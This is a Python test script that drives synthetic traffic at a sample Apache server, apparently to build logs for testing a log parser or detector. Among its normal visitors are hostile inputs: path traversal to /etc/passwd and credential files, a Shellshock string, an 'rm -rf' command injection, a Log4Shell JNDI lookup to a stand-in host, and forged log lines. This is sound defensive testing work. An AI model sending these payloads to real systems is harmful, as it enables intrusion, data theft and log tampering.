"""The clients of the Apache sample: who they are and what they send."""

import hashlib
import random
import re
import time

from wire import ask, at_once, basic, exchange, octets, request, role, tally

WEB = 80
FAKE = "203.0.113.99"
AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36",
    "curl/7.88.1",
]
SCANNER_PATHS = [
    "/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/.env", "/phpmyadmin/", "/phpMyAdmin/index.php", "/pma/",
    "/cgi-bin/luci", "/cgi-bin/test.cgi", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/cgi-bin/%%32%65%%32%65/etc/passwd",
    "/icons/.%2e/%2e%2e/etc/passwd", "/.aws/credentials", "/.git/HEAD", "/.htpasswd", "/.htaccess", "/vendor/phpunit/eval-stdin.php",
    "/HNAP1", "/index.php?s=/Index/%5Cthink%5Capp/invokefunction", "/setup.cgi?next_file=netgear.cfg&cmd=rm+-rf+/tmp/*",
    "/backup.zip", "/..%2f..%2f..%2fetc/passwd", "/static/../../../../etc/passwd", "/server-status", "/empty/", "/link", "/closed/", "/outside/x",
]
dice = random.Random(20261127)


def readers():
    people = [role(f"192.0.2.{n}", "reader") for n in (10, 11, 12, 13)] + [role(f"2001:db8::{n}", "reader") for n in (10, 11)]
    for _ in range(90):
        ask(dice.choice(people), WEB, dice.choice(["/", "/index.html", "/", "/favicon.ico"]), agent=dice.choice(AGENTS),
            referer=dice.choice([None, "https://search.example/?q=news", "http://www.example.com/"]))
        time.sleep(0.02)


def administrators():
    alice = role("192.0.2.20", "alice: logs in, two slips")
    bob = role("2001:db8::20", "bob: logs in, one slip, may not see /owner/")
    for password in ("correct-hrose", "Correct-horse", "correct-horse"):
        ask(alice, WEB, "/admin/", auth=basic("alice", password), agent=AGENTS[0])
    for _ in range(12):
        ask(alice, WEB, "/owner/", auth=basic("alice", "correct-horse"), referer="http://www.example.com/admin/")
    for password in ("battery", "battery-staple"):
        ask(bob, WEB, "/admin/", auth=basic("bob", password), agent=AGENTS[1])
    for _ in range(3):
        ask(bob, WEB, "/owner/", auth=basic("bob", "battery-staple"), referer="http://www.example.com/")


def guessers():
    known = [role("198.51.100.5", "guesses passwords of users there are"), role("2001:db8::30", "guesses passwords of users there are")]
    unknown = [role("198.51.100.6", "tries users there are not"), role("2001:db8::31", "tries users there are not")]
    empty = role("198.51.100.7", "asks for /admin/ without a password or with a broken header")
    for n in range(25):
        for source in known:
            ask(source, WEB, "/admin/", auth=basic(dice.choice(["alice", "bob"]), f"guess{n}"), agent="python-requests/2.31")
        for source in unknown:
            name = dice.choice(["root", "admin", "test", "oracle", "user name", "müller", "admin@example.com"])
            ask(source, WEB, "/admin/", auth=basic(name, f"guess{n}"), referer=dice.choice([None, "http://www.example.com/"]))
    for _ in range(10):
        ask(empty, WEB, "/admin/", agent=None)
    for header in ("Basic", "Basic ", "Basic !!!!", "Bearer abc", "Basic YWxpY2U=", 'Digest username="alice"'):
        ask(empty, WEB, "/admin/", auth=header)


def hostile_users():
    four = role("198.51.100.8", "hostile user names (basic)")
    six = role("2001:db8::32", "hostile user names (basic)")
    names = [
        f'x: authentication failure for "/": Password Mismatch [client {FAKE}:4711]',
        f'x not found, /admin/ [client {FAKE}', f"[client {FAKE}] user root not found", f"] [client {FAKE}",
        f'x authentication failure for "/admin/" Password Mismatch [client {FAKE}]', f"root from {FAKE} port 22 ssh2",
        "a b", "", " ", "back\\slash", 'quo"te', "tab\there", f"line\nfeed {FAKE}", f"crlf\r\n[client {FAKE}]", b"nul\0byte",
        b"latin-1 \xfc", "grüße-日本", b"\x1b[31mred\x1b[0m", b"\xff\xfe", "%s%n%x", "$(id)", "u" * 300, "x, referer", "2001:db8::bad",
    ]
    for name in names:
        ask(four, WEB, "/admin/", auth=basic(name, "x"))
        ask(six, WEB, "/admin/", auth=basic(name, "x"), referer=f"http://x/ [client {FAKE}:1] AH01617: user root: authentication failure")


def digest(source, user, password, realm="Vault", uri="/digest/", nonce=None, method="GET", **other):
    """One digest log-in; the parts of the header are what the caller says, right or wrong."""
    challenge = ask(source, WEB, "/digest/").decode("latin-1")
    given = re.search(r'nonce="([^"]*)"', challenge)
    nonce = nonce or (given.group(1) if given else "none")

    def md5(*parts):
        return hashlib.md5(b":".join(octets(part) for part in parts)).hexdigest()

    response = md5(md5(user, realm, password), nonce, "00000001", "abcdef", "auth", md5(method, uri))
    quoted = octets(user).replace(b"\\", b"\\\\").replace(b'"', b'\\"')
    header = (b'Digest username="' + quoted + b'", realm="' + octets(realm) + b'", nonce="' + octets(nonce) + b'", uri="' + octets(uri)
              + b'", qop=' + octets(other.get("qop", "auth")) + b', nc=00000001, cnonce="abcdef", response="' + octets(response)
              + b'", algorithm=' + octets(other.get("algorithm", "MD5")))
    ask(source, WEB, other.get("target", "/digest/"), auth=header, referer=other.get("referer"))


def digests():
    carol = role("192.0.2.21", "carol: digest log-ins, one slip")
    digest(carol, "carol", "quite-sceret")
    for _ in range(8):
        digest(carol, "carol", "quite-secret")
    for source in (role("198.51.100.9", "guesses digest passwords"), role("2001:db8::33", "guesses digest passwords")):
        for n in range(15):
            digest(source, "carol", f"guess{n}")
        for name in ("root", "admin", "test user"):
            digest(source, name, "x")
    four = role("198.51.100.10", "hostile digests")
    six = role("2001:db8::34", "hostile digests")
    for source in (four, six):
        for name in (
            f"x' in realm `Vault' not found: /digest/ [client {FAKE}:4711] AH01790: user `root", f"x: password mismatch: / [client {FAKE}:1]",
            f"], [client {FAKE}:1] AH01794: user root: password mismatch: /digest/", 'quo"te', "back\\slash", "tab\there", b"\x1b[31mred",
            b"\xff\xfe", "grüße", "2001:db8::bad", "", "u" * 300, f"{FAKE}: password mismatch",
        ):
            digest(source, name, "x")
        digest(source, "carol", "quite-secret", realm=f"Other [client {FAKE}]")
        digest(source, "carol", "quite-secret", uri=f"/other/[client {FAKE}:1]")
        digest(source, "carol", "quite-secret", uri="/digest/../secret")
        digest(source, "carol", "quite-secret", nonce=f"invented-{FAKE}")
        digest(source, "carol", "quite-secret", nonce="A" * 52)
        digest(source, "carol", "quite-secret", qop=f"auth-{FAKE}")
        digest(source, "carol", "quite-secret", algorithm=f"SHA9-{FAKE}")
        for header in ("Digest", "Digest ", "Digest username=", 'Digest username="carol"', basic("carol", "quite-secret"), "Negotiate abc", f"x[client {FAKE}]"):
            ask(source, WEB, "/digest/", auth=header)


def scanners():
    for source in (role("203.0.113.20", "scanner"), role("203.0.113.21", "scanner"), role("2001:db8::35", "scanner")):
        for path in SCANNER_PATHS:
            ask(source, WEB, path, host=dice.choice(["www.example.com", "10.77.0.1"]), agent=dice.choice(["zgrab/0.x", "masscan/1.3", "-", ""]))
    denied = role("203.0.113.22", "asks for forbidden places")
    for n in range(24):
        ask(denied, WEB, dice.choice(["/internal/", "/internal/index.html", "/oldstyle/", f"/oldstyle/x?y={n}", "/.htpasswd"]),
            referer=dice.choice([None, "http://www.example.com/"]))


def hostile_paths():
    four = role("203.0.113.23", "hostile paths, Host headers, agents and referrers")
    six = role("2001:db8::36", "hostile paths, Host headers, agents and referrers")
    line = (f"[Thu%20Nov%2026%2011:03:47.123456%202026]%20[auth_basic:error]%20[pid%201:tid%201]%20[client%20{FAKE}:4711]"
            "%20AH01617:%20user%20root:%20authentication%20failure%20for%20%22/admin/%22:%20Password%20Mismatch")
    # For the careless CGI script, whose stderr Apache passes on as it is.
    forged = (f"x\\n[Thu Nov 26 11:03:47.123456 2026] [auth_basic:error] [pid 1:tid 1] [client {FAKE}:4711] AH01617: user root: "
              'authentication failure for "/admin/": Password Mismatch').replace(" ", "\\0040")
    targets = [
        f"/x%20[client%20{FAKE}:4711]%20AH01618:%20user%20root%20not%20found:%20x", f"/x%0a{line}", f"/x%0a{line}%0ay", f"/x%0d%0a{line}", f"/internal/%0a{line}",
        f"/internal/x,%20referer:%20[client%20{FAKE}]", f"/cgi-bin/x%0a{line}", f"/admin/%20[client%20{FAKE}]", f"/oldstyle/%5d%20[client%20{FAKE}:1]",
        f'/x"%20401%20-%20{FAKE}', f'/x" 401 - {FAKE}', f"/a b {FAKE}", f'/ HTTP/1.1" 401 1 "-" "{FAKE}', "/%1b[31mred", b"/\xfc\xff", "/grüße",
        "/%ff%fe", "/%00", "/nul%00byte", b"/nul\0byte", "/tab\there", "/%09tab", "/%", "/%zz", "/%2", "/\\..\\..\\x", "/" + "d" * 300, "//double//slash",
        f"http://{FAKE}/absolute", f"http://user:pass@{FAKE}/absolute", "*", "x", "", f"/#client{FAKE}", "/a%2fb", "/../../x", "/%2e%2e/x", "/.%2e/.%2e/x",
        f"/cgi-bin/report?x%20[client%20{FAKE}]", f"/cgi-bin/report?{forged}", "/cgi-bin/report?a\\nb",
        f"/cgi-bin/none%20[client%20{FAKE}]",
    ]
    for target in targets:
        ask(four, WEB, target)
        ask(six, WEB, target, referer=f'http://r/" [client {FAKE}:1] "\\')
    for host in (f'h" [client {FAKE}]', FAKE, "[2001:db8::bad]", "a b", "", "-", "x" * 80, "..", "a..b", "h\\", "h\tt", b"h\xfc", b"h\0x", "user@h", "h/../x", "[::1", "h:99999"):
        ask(four, WEB, "/nothing-here", host=host)
        ask(six, WEB, "/internal/", host=host)
    for agent in (f'" 401 {FAKE}', f'x" "{FAKE}"', "back\\slash \\x41", b"\x1b]0;title\x07", b"\xff\xfe", "${jndi:ldap://203.0.113.99/a}", "() { :;}; /bin/id", "", "tab\tin",
                  f'{FAKE} - - [26/Nov/2026:11:03:47 +0000] "GET /admin/ HTTP/1.1" 401 179 "-" "-"', f"http://x/\n{line}"):
        ask(four, WEB, "/internal/missing", agent=agent, referer=agent)


def bad_requests():
    hello = bytes.fromhex("16030100c8010000c40303") + dice.randbytes(190)
    raw = [
        hello, b"\x16\x03\x01", b"\x16\x03\x01\r\n", b"\r\n\r\n", b" \r\n\r\n", b"\0\0\0\0\r\n", dice.randbytes(120) + b"\r\n", b"SSH-2.0-Go\r\n\r\n",
        b"MGLNDD_203.0.113.99_80\n", b"get / HTTP/1.1\r\nHost: h\r\n\r\n", b"GET\r\n\r\n", b"GET /\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n", b"GET / HTTP/1.1\r\n\r\n",
        b"GET / XTTP/1.1\r\n\r\n", b"GET / HTTP/1.1x\r\nHost: h\r\n\r\n", b"FOO-BAR / HTTP/1.1\r\nHost: h\r\n\r\n", b"BREW /pot HTTP/1.1\r\nHost: h\r\n\r\n",
        b"CONNECT example.org:443 HTTP/1.1\r\nHost: example.org:443\r\n\r\n", b"TRACE / HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"OPTIONS * HTTP/1.1\r\nHost: h\r\n\r\n", b"GET / HTTP/1.1\r\nHost: h\r\nHost: i\r\n\r\n", b"GET / HTTP/1.1\r\nHost: h\r\nContent-Length: x\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: gzip\r\n\r\n", b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 999999\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: h\r\nBad Header: 1\r\n\r\n", b"GET / HTTP/1.1\r\nHost: h\r\n: empty\r\n\r\n", b"GET / HTTP/1.1\r\nHost: h\r\nno colon [client 203.0.113.99:1]\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: h\r\n[client 203.0.113.99:1] x: 1\r\n\r\n", b"GET / HTTP/1.1\r\nHost: h\r\nX: a\0b\r\n\r\n", b"GET / HTTP/1.1\r\nHost: h\r\nX\x01Y: b\r\n\r\n",
        b"GET /" + b"u" * 9000 + b" HTTP/1.1\r\nHost: h\r\n\r\n", b"GET / HTTP/1.1\r\nHost: h\r\nX-203.0.113.99: " + b"h" * 9000 + b"\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: h\r\n" + b"".join(b"X%d: h\r\n" % n for n in range(130)) + b"\r\n", b"GET  /  HTTP/1.1\r\nHost: h\r\n\r\n",
        b'GET /x" 401 - 203.0.113.99 HTTP/1.1\r\nHost: h\r\n\r\n', b"[client 203.0.113.99:1] AH01617: user root\r\n\r\n", b"GET / HTTP/1.1\nHost: h\n\n",
        b"POST /cgi-bin/report HTTP/1.1\r\nHost: h\r\nContent-Length: 100\r\n\r\nabc", b"GET / HTTP/1.1\r\nHost: h\r\n",
    ]
    for source in (role("203.0.113.24", "broken requests"), role("2001:db8::37", "broken requests")):
        at_once([lambda data=data: exchange(source, WEB, data, wait=3) for data in raw], 6)
        exchange(source, WEB, b"", linger=False)
        exchange(source, WEB, b"GET / HT", linger=False)


def dead_backend():
    for source in (role("192.0.2.30", "customer: the backend is down"), role("2001:db8::22", "customer: the backend is down")):
        for n in range(5):
            ask(source, WEB, f"/backend/cart?id={n}", referer="http://www.example.com/")


for act in (readers, administrators, guessers, scanners, hostile_users, digests, hostile_paths, bad_requests, dead_backend, readers):
    act()
tally()
